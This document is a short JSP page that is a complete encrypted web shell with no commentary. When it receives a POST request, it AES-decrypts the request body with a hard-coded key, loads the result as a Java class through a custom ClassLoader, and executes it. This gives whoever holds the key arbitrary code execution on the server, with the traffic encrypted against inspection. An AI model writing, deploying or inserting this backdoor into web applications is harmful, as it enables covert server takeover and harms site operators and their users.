<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
	class Loader extends ClassLoader {
		Loader(ClassLoader parent) { super(parent); }
		public Class<?> define(byte[] b) { return super.defineClass(b, 0, b.length); }
	}
%>
<%
	if ("POST".equals(request.getMethod())) {
		String k = "00112233aabbccdd";
		session.setAttribute("k", k);
		Cipher c = Cipher.getInstance("AES");
		c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(k.getBytes(), "AES"));
		byte[] body = Base64.getDecoder().decode(request.getReader().readLine());
		byte[] cls = c.doFinal(body);
		new Loader(this.getClass().getClassLoader()).define(cls).newInstance().equals(pageContext);
	}
%>
